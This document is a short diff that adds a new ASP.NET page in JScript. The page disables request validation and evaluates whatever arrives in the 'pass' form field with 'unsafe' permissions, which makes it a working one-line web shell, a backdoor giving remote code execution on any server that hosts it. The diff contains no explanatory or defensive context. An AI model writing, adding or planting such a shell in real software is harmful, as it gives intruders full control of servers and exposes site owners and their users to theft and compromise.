@@ -1,0 +1,5 @@
+<%@ Page Language="Jscript" validateRequest="false" %>
+<%
+var c = Request.Form["pass"];
+eval(c, "unsafe");
+%>
